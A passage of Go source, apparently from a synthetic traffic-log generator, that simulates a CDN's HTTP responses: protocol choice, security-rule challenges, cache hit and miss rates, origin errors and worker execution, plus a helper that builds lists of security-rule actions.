	rnd := tr.r
	if r.scheme == "" {
		r.scheme = "https"
	}
	if r.proto == "" {
		r.proto = "HTTP/1.1"
		x := rnd.Float64()
		if r.scheme == "https" && x < r.tls.h3 {
			r.proto = "HTTP/3"
		} else if r.scheme == "https" && x < r.tls.h3+r.tls.h2 {
			r.proto = "HTTP/2"
		}
	}
	if r.term >= 0 {
		m := r.matches[r.term]
		r.status, r.cacheStatus = m.rule.status, "unknown"
		r.ctype, r.compress = ctHTML, true
		r.size = 4000 + rnd.IntN(3000)
		if m.act == actManagedChallenge && r.v != nil && r.v.kind == vkHuman {
			// A person: solves the challenge and the browser asks again.
			v := r.v
			v.pending, v.pendingRay = m.rule, r.rayID
			v.retry, v.retryMeth = r.ep, r.method
			v.retryPath = append(v.retryPath[:0], r.path...)
			v.retryQuery = append(v.retryQuery[:0], r.query...)
			if r.ep == nil {
				v.retry = nil
			}
		}
		return
	}
	if r.redirect {
		r.status, r.cacheStatus, r.ctype, r.size = 301, "unknown", ctHTML, 167
		return
	}
	switch r.cache {
	case cacheStatic:
		switch x := rnd.IntN(1000); {
		case x < 800:
			r.cacheStatus = "hit"
		case x < 890:
			r.cacheStatus = "miss"
		case x < 940:
			r.cacheStatus = "expired"
		case x < 975:
			r.cacheStatus = "revalidated"
		case x < 990:
			r.cacheStatus = "stale"
		default:
			r.cacheStatus = "updating"
		}
		if r.originWants != 200 {
			r.cacheStatus = "miss"
		}
	case cacheEdgeHTML:
		switch x := rnd.IntN(100); {
		case x < 72:
			r.cacheStatus = "hit"
		case x < 88:
			r.cacheStatus = "miss"
		case x < 97:
			r.cacheStatus = "expired"
		default:
			r.cacheStatus = "revalidated"
		}
		if r.originWants >= 500 {
			r.cacheStatus = "miss"
		}
	case cacheBypass:
		r.cacheStatus = "bypass"
	default:
		r.cacheStatus = "dynamic"
	}
	switch r.cacheStatus {
	case "hit", "stale", "updating":
		r.status = 200
	default:
		r.originTried = true
		r.originStatus = r.originWants
		r.status = r.originWants
		// Now and then the origin is unreachable or too slow.
		if x := rnd.IntN(10000); x < 8 {
			r.status, r.originStatus = []int{520, 522, 522, 524, 524, 525, 502, 504}[x], 0
		}
	}
	if r.cond && r.status == 200 {
		r.status = 304
	}
	if r.ep != nil && r.ep.class == epAPI && r.z.worker != "" && r.role == hAPI && r.originTried {
		r.workerRun = true
	}
}

// securityFields fills the parallel arrays of http_requests.
func (r *request) securityLists(actions, ids, sources []string) ([]string, []string, []string) {
	for _, m := range r.matches {
		actions = append(actions, actionSec[m.act])
		ids = append(ids, m.rule.id)
		sources = append(sources, m.rule.secSrc)
	}
	return actions, ids, sources
}
